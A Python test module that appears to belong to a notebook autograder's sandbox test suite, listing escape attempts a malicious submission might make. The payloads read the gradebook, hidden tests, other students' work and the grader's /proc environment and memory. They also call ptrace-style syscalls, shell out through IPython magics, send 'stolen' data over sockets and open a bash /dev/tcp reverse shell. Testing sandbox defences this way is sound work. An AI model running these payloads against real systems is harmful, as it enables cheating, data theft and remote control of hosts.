# ruff: noqa: E501
"""Looking around: files, processes, the network."""

from tests.attacks.attack import SANDBOX, WRONG, Attack

READ = (
    WRONG
    + """
import os, glob
def show(path):
    try:
        with open(path, "rb") as file: print(path, file.read(200_000))
    except OSError as error: print(path, type(error).__name__)
"""
)
PRIVATE = [
    Attack(
        "read files",
        "gradebook, hidden tests, other submissions, HOME read from disk",
        SANDBOX,
        READ
        + """
for path in ["$root/gradebook.db", "$root/source/task/task.ipynb", "$root/submitted/bob/task/task.ipynb", "$root/roster.txt",
             "$home/private.txt", "task.ipynb", "../../../gradebook.db", "../../../roster.txt"]:
    show(path)
for folder, _, names in os.walk("$root"):
    for name in names: show(os.path.join(folder, name))
""",
    ),
    Attack(
        "read processes",
        "`/proc/<pid>/{environ,cmdline,fd,mem,root,cwd}` of the grader",
        SANDBOX,
        READ
        + """
for pid in {os.getppid(), $pid}:
    for name in ("environ", "cmdline", "root$root/roster.txt", "cwd/roster.txt", "mem"): show(f"/proc/{pid}/{name}")
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            if os.path.realpath(f"/proc/{pid}/fd/{fd}").startswith("$root"): show(f"/proc/{pid}/fd/{fd}")
    except OSError: pass
print(dict(os.environ))
""",
    ),
    Attack(
        "read by magics",
        "`%%bash`, `!`, `%run`, `%load`, `%env`, `%cd` at private files",
        SANDBOX,
        """
def f(x):
    return 0.0 * x
get_ipython().system("cat $root/roster.txt $home/private.txt $root/source/task/task.ipynb; env")
get_ipython().run_line_magic("env", "")
for magic, line in (("run", "$root/source/task/task.ipynb"), ("load", "$root/source/task/task.ipynb"), ("cd", "$root"),
                    ("run", "-i $root/roster.txt"), ("load_ext", "autoreload"), ("reset", "-f")):
    try: print(get_ipython().run_line_magic(magic, line))
    except BaseException as error: print(magic, type(error).__name__)
get_ipython().system("cat roster.txt")
""",
    ),
    Attack(
        "memory of others",
        "`ptrace`, `process_vm_readv`, `pidfd_getfd`, `/proc/*/mem` of every process in sight",
        SANDBOX,
        READ
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir("/proc") if p.isdecimal() and int(p) not in (os.getpid(), $pid)][:50] + [1]:
    print(pid, libc.syscall(101, 4, pid, 0, 0), libc.syscall(438, libc.syscall(434, pid, 0), 3, 0))
    try: open(f"/proc/{pid}/mem", "r+b"); print("mem of", pid)
    except OSError as error: print(error)
""",
        plain="not run",
    ),
    Attack(
        "inherited descriptors",
        "descriptors that the grader left open; the control socket",
        SANDBOX,
        READ
        + """
import socket
for fd in map(int, os.listdir("/proc/self/fd")):
    try: print(fd, os.readlink(f"/proc/self/fd/{fd}"), end="; ")
    except OSError: continue
    if os.path.realpath(f"/proc/self/fd/{fd}").startswith("$root"): show(f"/proc/self/fd/{fd}")
""",
    ),
    Attack(
        "find the solution",
        "the reference solution, the tests or nbjudge's own side imported",
        SANDBOX,
        READ
        + """
import sys
for name in ("nbjudge.judge", "nbjudge.assignment", "tests.attacks.arena", "course.demo", "nbgrader_config"):
    try: print("imported", name, __import__(name))
    except ImportError: pass
for path in [*glob.glob("/engine/**", recursive=True), *glob.glob("./**", recursive=True)]: show(path)
""",
    ),
    Attack(
        "network",
        "packets to the loopback interface and to other hosts, TCP, UDP, raw",
        SANDBOX,
        WRONG
        + """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(1); s.connect(("127.0.0.1", $port)); s.send(b"stolen")
    except OSError as error: print(error)
import urllib.request
try: urllib.request.urlopen("http://127.0.0.1:$port/", timeout=1)
except OSError as error: print(error)
get_ipython().system("exec 3<>/dev/tcp/127.0.0.1/$port; echo hello >&3")
try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
except OSError as error: print(error)
""",
    ),
    Attack(
        "unix sockets",
        "abstract sockets, and socket files of the machine",
        SANDBOX,
        WRONG
        + """
import socket
for path in ["\\0$abstract", "/tmp/.X11-unix/X0"]:
    try:
        with socket.socket(socket.AF_UNIX) as s: s.settimeout(1); s.connect(path); print("connected", path)
    except OSError as error: print(error)
""",
    ),
    Attack(
        "reverse shell",
        "a reverse shell",
        SANDBOX,
        WRONG
        + """
import subprocess
subprocess.Popen(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/$port; sh <&3 >&3"], stderr=-3).wait(2)
""",
    ),
]
